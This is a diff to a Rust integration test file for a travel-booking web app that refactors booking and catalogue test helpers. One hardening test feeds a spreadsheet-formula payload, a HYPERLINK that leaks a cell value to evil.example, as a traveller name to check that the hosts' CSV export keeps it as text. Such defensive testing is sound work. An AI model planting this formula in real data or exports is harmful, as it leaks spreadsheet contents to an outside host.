@@ -5,8 +5,9 @@ use proptest::prelude::*;
 use proptest::strategy::ValueTree;
 use proptest::test_runner::TestRunner;
 use reqwest::StatusCode;
-use serde_json::Value;
+use serde_json::{Value, json};
 
+use crate::builders::{PASSWORD, ProducerApp, signed_out_producer_app};
 use crate::helpers::{DEMO_PASSWORD, TestApp};
 
 /// Values a visitor may put in a query string: numbers at and past every integer's limits,
@@ -181,14 +182,12 @@ async fn hardening_inputs_any_query_string_on_any_list_gives_no_server_error() {
     }
 }
 
-const ARGAN: &str = "/trips/six-jours-dans-la-reserve-de-biosphere-de-l-arganeraie";
-
-/// Books the Argan stay for `travellers` (one per line) as the demo traveller; the departure.
-async fn book_argan(app: &TestApp, travellers: &str) -> i64 {
-    let traveller = app
-        .visitor("traveller@demo.passerelle.test", DEMO_PASSWORD)
-        .await;
-    let (_, page) = traveller.page(ARGAN).await;
+/// Books the stay on `trip` (its page) for `travellers` (one per line) as a new traveller; the
+/// departure.
+async fn book_stay(app: &TestApp, trip: &str, travellers: &str) -> i64 {
+    app.verified_token("traveller@example.org").await;
+    let traveller = app.visitor("traveller@example.org", PASSWORD).await;
+    let (_, page) = traveller.page(trip).await;
     // The first departure the traveller has not booked yet.
     for action in page
         .split("action=\"/departures/")
@@ -198,7 +197,7 @@ async fn book_argan(app: &TestApp, travellers: &str) -> i64 {
     {
         let res = traveller
             .submit(
-                ARGAN,
+                trip,
                 &action,
                 &[
                     ("travellers", travellers),
@@ -216,15 +215,18 @@ async fn book_argan(app: &TestApp, travellers: &str) -> i64 {
 
 #[tokio::test]
 async fn hardening_inputs_a_traveller_named_like_a_formula_stays_text_in_the_hosts_csv() {
-    let app = TestApp::spawn_demo().await;
-    let departure = book_argan(
+    let app = TestApp::spawn().await;
+    let partnership = app.partnership().await;
+    let (trip, _) = app
+        .summer_stay_in_morocco(&partnership.coordinator_token, "Arganeraie")
+        .await;
+    let departure = book_stay(
         &app,
+        &format!("/trips/{}", trip["slug"].as_str().unwrap()),
         "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Voir\")\n-2+3\nBen Janssens",
     )
     .await;
-    let host = app
-        .visitor("host.jette-sidi-bibi@demo.passerelle.test", DEMO_PASSWORD)
-        .await;
+    let host = app.visitor(&partnership.coordinator, PASSWORD).await;
     let res = host
         .get(&format!("/host/departures/{departure}/travellers.csv"))
         .await;
@@ -264,7 +266,15 @@ async fn hardening_inputs_a_traveller_named_like_a_formula_stays_text_in_the_hos
 
 #[tokio::test]
 async fn hardening_inputs_the_anonymous_page_cache_ignores_unknown_query_parameters() {
-    let app = TestApp::spawn_demo().await;
+    let ProducerApp {
+        app,
+        producer,
+        token,
+        ..
+    } = signed_out_producer_app().await;
+    // A second product at another price: the two sorts differ.
+    app.product_with(producer, &token, "Amlou", json!({"price_cents": 790}))
+        .await;
     let (status, first) = app.page("/catalogue?sort=price_asc").await;
     assert_eq!(status, StatusCode::OK);
     let kept = app.state.catalog.page_count().await;
